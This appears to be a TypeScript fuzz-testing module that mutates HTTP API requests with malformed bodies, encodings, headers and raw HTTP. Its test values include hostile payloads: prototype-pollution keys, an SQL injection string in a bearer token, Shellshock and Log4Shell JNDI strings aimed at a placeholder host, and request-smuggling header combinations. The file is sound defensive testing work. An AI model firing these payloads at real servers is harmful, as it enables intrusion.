import { brotliCompressSync, gzipSync } from 'node:zlib';
import type { Random } from '../support/random.js';
import { digestOf, sha256Of } from '../support/tiny-pdf.js';
import { HOSTILE, MARK, RAW_JSON } from './corpora.js';
import { methodsAt } from './document.js';
import type { FuzzModel } from './model.js';
import type { Draft } from './requests.js';

type Mutator = (draft: Draft, random: Random, model: FuzzModel) => void;

/** Each mutator makes part of a request invalid or unusual, and returns a description of what it did. */
export function mutate(draft: Draft, random: Random, model: FuzzModel): void {
  const takesBody = draft.json !== undefined || draft.lines !== null;
  const roll = random.next();
  const bodyMutators = takesBody ? BODY_MUTATORS : draft.body ? PDF_MUTATORS : null;
  const ways = bodyMutators && roll < 0.55 ? bodyMutators : roll < 0.8 ? TARGET_MUTATORS : HEADER_MUTATORS;
  const [name, way] = random.pick(Object.entries(ways));
  draft.mutations.push(name);
  way(draft, random, model);
}

/** Replaces a marker with raw JSON that `JSON.stringify` would never produce. */
function withRaw(draft: Draft, raw: string, put: (marker: string) => void): void {
  const marker = 'raw-json-goes-here';
  put(marker);
  const text = draft.lines ? draft.lines.map((line) => JSON.stringify(line)).join('\n') : JSON.stringify(draft.json);
  draft.body = Buffer.from(text.replace(`"${marker}"`, () => raw));
}

type Holder = Record<string, unknown> | unknown[];

/** Every place in a body where a value can be replaced. */
function placesIn(value: unknown): { holder: Holder; key: string | number }[] {
  if (typeof value !== 'object' || value === null) return [];
  const holder = value as Holder;
  return Object.entries(holder).flatMap(([key, child]) => [{ holder, key }, ...placesIn(child)]);
}

const rootOf = ({ json, lines }: Draft): unknown => lines ?? json;

function at(draft: Draft, random: Random, change: (holder: Record<string, unknown>, key: string) => void): void {
  const places = placesIn(rootOf(draft));
  if (places.length === 0) return;
  const { holder, key } = random.pick(places);
  change(holder as Record<string, unknown>, String(key));
}

function rawAt(draft: Draft, random: Random, raw: string): void {
  if (placesIn(rootOf(draft)).length === 0) {
    draft.body = Buffer.from(raw);
    return;
  }
  withRaw(draft, raw, (marker) =>
    at(draft, random, (holder, key) => {
      holder[key] = marker;
    }),
  );
}

const textOfBody = ({ body, json, lines }: Draft) =>
  body?.toString('utf8') ??
  (lines ? lines.map((line) => JSON.stringify(line)).join('\n') : (JSON.stringify(json) ?? ''));

const setHeader = (draft: Draft, name: string, value: string) => {
  draft.headers = [...draft.headers.filter(([other]) => other.toLowerCase() !== name.toLowerCase()), [name, value]];
};

const CONTENT_TYPES = [
  'text/plain',
  'application/json; charset=utf-16',
  'application/json; charset=iso-8859-1',
  'application/json; charset=nonsense',
  'application/JSON ; x="y',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'multipart/form-data',
  'application/x-ndjson',
  'application/xml',
  'application/problem+json',
  'image/png',
  ';',
  '',
];

const BODY_MUTATORS: Readonly<Record<string, Mutator>> = {
  'a field left out': (draft, random) => at(draft, random, (holder, key) => void delete holder[key]),
  'another value': (draft, random) => rawAt(draft, random, random.pick(RAW_JSON)),
  'another value again': (draft, random) => rawAt(draft, random, random.pick(RAW_JSON)),
  'a hostile text': (draft, random) =>
    at(draft, random, (holder, key) => {
      holder[key] = random.pick(HOSTILE);
    }),
  'a text around the longest': (draft, random) =>
    at(draft, random, (holder, key) => {
      const length = random.pick([10, 50, 60, 63, 100, 120, 128, 200, 254, 300, 500, 1000, 2000, 4000, 5000]);
      holder[key] = random.pick(['a', 'é', '漢', '🙂', ' ', '\u0301']).repeat(length + random.below(3) - 1);
    }),
  'a very long text': (draft, random) =>
    at(draft, random, (holder, key) => {
      holder[key] = random.pick(['a', '漢', '<', '"', '\\', '(a+)+$', '@', '=']).repeat(60_000);
    }),
  'spaces around': (draft, random) =>
    at(draft, random, (holder, key) => {
      const space = random.pick([' ', '\t', '\r\n', '\u00a0', '\u2003', '\ufeff']);
      if (typeof holder[key] === 'string') holder[key] = space + holder[key] + space;
    }),
  'a number near its bounds': (draft, random) =>
    at(draft, random, (holder, key) => {
      const near = [-1, -0.01, 0, 0.005, 0.01, 999.99, 1000, 1000.01, 2 ** 31 - 1, 2 ** 31, 2 ** 53, 1e300];
      if (typeof holder[key] === 'number') holder[key] = random.pick(near);
    }),
  'an array instead': (draft, random) =>
    at(draft, random, (holder, key) => {
      holder[key] = [holder[key]];
    }),
  'an unknown field': (draft, random) =>
    at(draft, random, (holder) => {
      holder[random.pick([...HOSTILE, 'id', 'admin', 'roles'])] = 1;
    }),
  'a key of prototypes': (draft, random) => {
    const key = random.pick(['__proto__', 'constructor', 'prototype', 'toString', 'then', 'toJSON', 'length']);
    const text = textOfBody(draft);
    draft.body = Buffer.from(text.replace('{', () => `{"${key}":{"admin":true}${text.startsWith('{}') ? '' : ','}`));
  },
  'a key twice': (draft) => {
    const text = textOfBody(draft);
    draft.body = Buffer.from(text.replace(/"(\w+)":/, (found, name) => `"${name}":null,${found}`));
  },
  'nested deeply': (draft, random) => {
    const levels = random.pick([20, 100, 127, 128, 129, 1000, 20_000]);
    const [open, close] = random.pick([
      ['[', ']'],
      ['{"a":', '}'],
    ] as const);
    rawAt(draft, random, `${open.repeat(levels)}1${close.repeat(levels)}`);
  },
  'broken off': (draft, random) => {
    const text = textOfBody(draft);
    draft.body = Buffer.from(text.slice(0, random.below(text.length + 1)));
  },
  'more behind it': (draft, random) => {
    draft.body = Buffer.from(textOfBody(draft) + random.pick(['x', '{}', ',', '\u0000', '\n\n', ']', ' ']));
  },
  'a mark before it': (draft) => {
    draft.body = Buffer.from(`\ufeff${textOfBody(draft)}`);
  },
  'other bytes': (draft, random) => {
    const text = textOfBody(draft);
    draft.body = random.pick([
      Buffer.from(text, 'utf16le'),
      Buffer.from(text.replace('"', '"é'), 'latin1'),
      Buffer.concat([Buffer.from(text.slice(0, -2)), Buffer.from([0xff, 0xfe, 0xc0, 0x80]), Buffer.from('"}')]),
      Buffer.alloc(300_000, 0x20),
      Buffer.alloc(0),
    ]);
  },
  'another type': (draft, random) => setHeader(draft, 'content-type', random.pick(CONTENT_TYPES)),
  compressed: (draft, random) => {
    const text = textOfBody(draft);
    setHeader(draft, 'content-encoding', random.pick(['gzip', 'br', 'deflate', 'identity', 'nonsense', 'gzip, gzip']));
    draft.body = random.pick([
      gzipSync(text),
      brotliCompressSync(text),
      Buffer.from(text),
      gzipSync(text).subarray(0, 20),
    ]);
  },
};

const DIGESTS = [
  '',
  'sha-256=::',
  'sha-256=:AAAA:',
  'sha-512=:AAAA:',
  `sha-256=${sha256Of(Buffer.from('other'))}`,
  `sha-256=:${'a'.repeat(9_000)}`,
  digestOf(Buffer.from('other')),
  `sha-512=:AAAA:, ${digestOf(Buffer.from('other'))}`,
];

/** More than a document may have. */
const TOO_LARGE = Buffer.alloc(10 * 1024 * 1024 + 1, '%PDF-1.4\n');

const PDF_MUTATORS: Readonly<Record<string, Mutator>> = {
  'another digest': (draft, random) => setHeader(draft, 'content-digest', random.pick(DIGESTS)),
  'another hash': (draft) => {
    const hash = draft.segments.find(({ isParameter }) => isParameter);
    if (hash) hash.text = sha256Of(Buffer.from('other'));
  },
  'no length': (draft) => setHeader(draft, 'transfer-encoding', 'chunked'),
  'other bytes': (draft, random) => {
    const pdf = draft.body ?? Buffer.alloc(0);
    draft.body = random.pick([
      pdf.subarray(0, random.below(pdf.length + 1)),
      Buffer.concat([pdf, Buffer.from('x')]),
      Buffer.alloc(0),
      TOO_LARGE,
    ]);
  },
  // The digest matches, so that what software reads is wrong.
  'a damaged file': (draft, random) => {
    const pdf = Buffer.from(draft.body ?? '');
    const first = random.pick([0, 5, random.below(pdf.length)]);
    // Another mutation may have left less, or nothing.
    pdf.subarray(first, first + 4).fill(random.pick(['<', '\0', '9']));
    draft.body = pdf;
    setHeader(draft, 'content-digest', digestOf(pdf));
    const last = draft.segments.at(-1);
    if (last?.isParameter) last.text = sha256Of(pdf);
  },
  'another type': (draft, random) => setHeader(draft, 'content-type', random.pick(CONTENT_TYPES)),
};

/** Ways to encode text in a URL: correctly, twice, not at all, and incorrectly. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => encodeURIComponent(text.toWellFormed()),
  (text) => encodeURIComponent(encodeURIComponent(text.toWellFormed())),
  (text) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16)}`).join(''),
  (text) => [...Buffer.from(text, 'latin1')].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
  (text) => [...Buffer.from(text, 'utf16le')].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
  (text) => text.replace(/[^!-~]|#/g, ''),
];

const BROKEN = ['%', '%Z', '%ZZ', '%C3%28', '%ED%A0%80', '%FF', '%C0%80', '%u0041', '%2', '%E2%80', '%f4%90%80%80'];

const written = (random: Random): string =>
  random.chance(0.2) ? random.pick(BROKEN) : random.pick(ENCODINGS)(random.pick(HOSTILE));

function parameterOf(draft: Draft, random: Random) {
  const parameters = draft.segments.filter(({ isParameter }) => isParameter);
  return parameters.length > 0 ? random.pick(parameters) : null;
}

function addQuery(draft: Draft, random: Random, value: string): void {
  const names = [...(draft.operation.operation.parameters ?? [])]
    .filter((one) => one.in === 'query')
    .map(({ name }) => name);
  draft.query.push([random.pick([...names, ...names, 'unknown']), value, true]);
}

const TARGET_MUTATORS: Readonly<Record<string, Mutator>> = {
  'another parameter of the path': (draft, random) => {
    const parameter = parameterOf(draft, random);
    if (parameter) Object.assign(parameter, { text: written(random), isWritten: true });
    else addQuery(draft, random, written(random));
  },
  'a long parameter of the path': (draft, random) => {
    const text = random
      .pick(['a', '%C3%A4', '%2F', '%20', '9', '-', '漢'])
      .repeat(random.pick([100, 400, 1_300, 4_000]));
    const parameter = parameterOf(draft, random);
    if (parameter) Object.assign(parameter, { text: encodeURI(text).replaceAll('%25', '%'), isWritten: true });
  },
  'a part too many': (draft, random) => {
    draft.segments.push({ text: written(random), isParameter: true, isWritten: true });
  },
  'a value of the query': (draft, random) => addQuery(draft, random, written(random)),
  'a number in the query': (draft, random) => addQuery(draft, random, encodeURIComponent(random.pick(RAW_JSON))),
  'a parameter twice': (draft, random) => {
    const value = random.pick(['1', '2', 'newest', 'passed', written(random)]);
    addQuery(draft, random, value);
    const last = draft.query.at(-1);
    if (last) draft.query.push([last[0], random.pick([value, '1', '']), true]);
  },
  'a parameter with brackets': (draft, random) => {
    addQuery(draft, random, '1');
    const last = draft.query.at(-1);
    if (last) last[0] += random.pick(['[]', '[0]', '[a]', '[__proto__]', '.a', '%5B%5D', '%00']);
  },
  'a key of prototypes in the query': (draft, random) => {
    const key = random.pick(['__proto__', '__proto__[a]', 'constructor', 'constructor[prototype][a]', 'toString', '']);
    draft.query.push([key, random.pick(['1', written(random)]), true]);
  },
  'another cursor': (draft, random, model) => {
    const made = [
      null,
      [],
      {},
      { v: 1 },
      { s: 'newest', v: '0000-01-01', id: 'x' },
      { at: 'x', id: '1' },
      { at: '0000-00-00T00:00:00.000Z', id: '9'.repeat(30) },
      { __proto__: 1 },
      'a\u0000b',
      { at: '+275760-09-13T00:00:00.000Z', id: '1' },
    ];
    const forged = Buffer.from(JSON.stringify(random.pick(made))).toString('base64url');
    const others = model.anyCursor();
    const value = others.length > 0 && random.chance(0.5) ? random.pick(others) : forged;
    draft.query = [...draft.query.filter(([name]) => name !== 'cursor'), ['cursor', value, true]];
  },
  'another method': (draft, random) => {
    const documented = methodsAt(draft.operation.path);
    const others = ['GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'TRACE', 'PROPFIND', 'QUERY', 'LINK'];
    draft.method = random.pick(others.filter((method) => !documented.includes(method)));
  },
  'a long query': (draft, random) => {
    draft.query.push([random.pick(['search', 'a']), 'a'.repeat(random.pick([99, 101, 121, 301, 5_000, 12_000])), true]);
  },
};

const BAD_HEADERS: Readonly<Record<string, readonly string[]>> = {
  cookie: [
    'staff_session=%ZZ',
    'staff_session=',
    `staff_session=${'a'.repeat(43)}`,
    'staff_session=a; staff_session=b',
    '=; ;;; =a; __proto__=x; constructor=y',
    'age_verified=%00; theme=<a>',
    `staff_challenge=x; staff_device=${'%'.repeat(50)}`,
    `a=${'b'.repeat(7_000)}`,
    'staff_session="',
    '\u00ff\u0080=\u00e9',
  ],
  authorization: [
    'Bearer',
    'Bearer ',
    'bearer x',
    'Basic YTpi',
    `Bearer coa_live_${'a'.repeat(43)}`,
    `Bearer coa_live_${'a'.repeat(5_000)}`,
    "Bearer coa_live_' OR 1=1 --",
    'Bearer \u00e9\u00ff',
    'Bearer a b',
    ', Bearer x',
    'coa_live_x',
  ],
  'if-match': [
    '',
    '*',
    'v1',
    '"v1',
    '"v1", "v2"',
    'W/"v1"',
    '"v99999999999"',
    '"v-1"',
    '"v0"',
    `"${MARK}"`,
    '"\u00ff"',
    ',,,',
    '"v2147483648"',
    '"v9999999999"',
  ],
  'if-none-match': ['*', '"v1"', 'W/"v1"', '"', ',', `"${'a'.repeat(4_000)}"`],
  'idempotency-key': ['', ' ', 'a', '\u00e9', 'a'.repeat(255), 'a'.repeat(256), "'; --", '"a"', `<${MARK}>`],
  origin: ['https://evil.example', 'null', '', 'http://127.0.0.1', 'x'],
  'sec-fetch-site': ['cross-site', 'same-site', 'none', 'nonsense'],
  accept: ['', '*/*;q=', 'text/html', 'application/xml', ';;', '\u00ff'],
  'accept-encoding': ['', ',', 'br;q=x', '*;q=0', 'identity;q=0', 'gzip, br, zstd, \u00ff'],
  'accept-language': ['x'.repeat(2_000), '*', ';q=1'],
  'x-request-id': ['a', `"${MARK}"`, 'a'.repeat(65), 'aaaaaaaa\tb', '{"a":1}'],
  'x-forwarded-for': [
    "', 0, ::::",
    '::1',
    '127.0.0.1, 10.0.0.1',
    'unknown',
    '',
    'a'.repeat(3_000),
    '%00',
    '::ffff:10.0.0.1%eth0',
  ],
  'x-forwarded-host': [`${MARK}.example`],
  'x-forwarded-proto': ['javascript', ''],
  'x-http-method-override': ['DELETE'],
  'user-agent': ['', `<${MARK}>`, '\u00ff'.repeat(500), '() { :; }; echo', `$\{jndi:ldap://x.example/a}`],
  range: ['bytes=0-0', 'bytes=-1', 'bytes=9-1', 'x'],
  expect: ['100-continue', '200-ok'],
  te: ['trailers'],
  upgrade: ['h2c', 'websocket'],
  'content-length': [],
  host: [],
};

const HEADER_MUTATORS: Readonly<Record<string, Mutator>> = {
  'an odd header': (draft, random) => {
    const [name, values] = random.pick(Object.entries(BAD_HEADERS).filter(([, all]) => all.length > 0));
    setHeader(draft, name, random.pick(values));
  },
  'another odd header': (draft, random) => {
    const names = ['cookie', 'authorization', 'if-match', 'idempotency-key', 'origin'] as const;
    const name = random.pick(names);
    setHeader(draft, name, random.pick(BAD_HEADERS[name] ?? ['']));
  },
  'a header left out': (draft, random) => {
    if (draft.headers.length > 0) draft.headers.splice(random.below(draft.headers.length), 1);
  },
  'a header twice': (draft, random) => {
    if (draft.headers.length > 0) draft.headers.push([...random.pick(draft.headers)]);
  },
  'a huge header': (draft, random) => {
    draft.headers.push([random.pick(['x-long', 'cookie', 'accept']), 'a'.repeat(random.pick([4_000, 15_000, 20_000]))]);
  },
  'many headers': (draft, random) => {
    for (let i = 0; i < random.pick([50, 500, 1_900]); i += 1) draft.headers.push([`x-${i}`, '1']);
  },
};

/** Malformed HTTP made from a valid request. */
export function malformedHttp(
  random: Random,
  method: string,
  target: string,
  headers: readonly (readonly [string, string])[],
): string {
  const rest = headers.filter(([name]) => /^(cookie|authorization|x-forwarded-for)$/.test(name));
  const lines = ['Host: localhost', 'Connection: close', ...rest.map(([name, value]) => `${name}: ${value}`)];
  const json = 'Content-Type: application/json';
  const request = (first: string, more: readonly string[] = [], body = '') =>
    `${[first, ...lines, ...more].join('\r\n')}\r\n\r\n${body}`;
  const first = `${method} ${target} HTTP/1.1`;
  const hostile = random.pick(HOSTILE);
  const ways: readonly (() => string)[] = [
    () => request(`${method} ${target} HTTP/${random.pick(['0.9', '1.0', '1.2', '2.0', '3', 'x'])}`),
    () => request(`${method} ${hostile} HTTP/1.1`),
    () => request(`${method} ${target}${hostile} HTTP/1.1`),
    () => request(`${method} http://${random.pick(['x.example', 'localhost:99999', '[::1', 'a b'])}${target} HTTP/1.1`),
    () => request(`${method} ${random.pick(['*', '//', '//evil.example', '/\\', '/..', ':99', '?', ''])} HTTP/1.1`),
    () => request(`${random.pick(['get', 'G', 'BREW', 'CONNECT', 'PRI', 'M-SEARCH', 'PURGE', ''])} ${target} HTTP/1.1`),
    () => request(first, [`X-A: ${hostile}`]),
    () => request(first, [`${hostile}: a`]),
    () => request(first, [`X-A: a\n${MARK}: b`]),
    () => request(first, [' folded: a']),
    () => request(first, ['X-A : b']),
    () => request(first, [`Host: ${MARK}.example`]),
    () => request(first, [json, 'Content-Length: 4', 'Content-Length: 5'], 'null'),
    () =>
      request(
        first,
        [json, `Content-Length: ${random.pick(['-1', '+4', '4,4', '0x4', ' ', '99999999999999999999'])}`],
        'null',
      ),
    () => request(first, [json, 'Content-Length: 4', 'Transfer-Encoding: chunked'], '4\r\nnull\r\n0\r\n\r\n'),
    () =>
      request(
        first,
        [json, `Transfer-Encoding: ${random.pick(['xchunked', 'chunked, gzip', 'identity', 'chunked, chunked'])}`],
        '4\r\nnull\r\n0\r\n\r\n',
      ),
    () =>
      request(
        first,
        [json, 'Transfer-Encoding: chunked'],
        random.pick([
          'ZZ\r\nnull\r\n0\r\n\r\n',
          '-4\r\nnull\r\n',
          '4;a=b\r\nnull\r\n0\r\nX: y\r\n\r\n',
          'fffffffffffffffff\r\n',
        ]),
      ),
    () => request(first, [json, 'Content-Encoding: gzip', 'Content-Length: 4'], 'null'),
    () => request(first, ['Expect: 100-continue', json, 'Content-Length: 4'], 'null'),
    () => request(first, [`Expect: ${hostile.replace(/[\r\n]/g, '')}`]),
    () => request(first, ['Upgrade: websocket', 'Sec-WebSocket-Key: x', 'Sec-WebSocket-Version: 13']),
    () => request(first, ['Connection: upgrade', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA']),
    () => request(first, [`X-Long: ${'a'.repeat(20_000)}`]),
    () =>
      request(
        first,
        Array.from({ length: 2_100 }, (_, n) => `X${n}: 1`),
      ),
    () => request(first).replaceAll('\r\n', '\n'),
    () => request(first).replaceAll('\r\n', '\r'),
    // A server that receives only line breaks waits for more input.
    () => `${hostile.trim() || '?'}\r\n\r\n`,
    () => '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03',
    () => 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    () => `${request(first)}GARBAGE`,
  ];
  return Buffer.from(random.pick(ways)().toWellFormed(), 'utf8').toString('latin1');
}
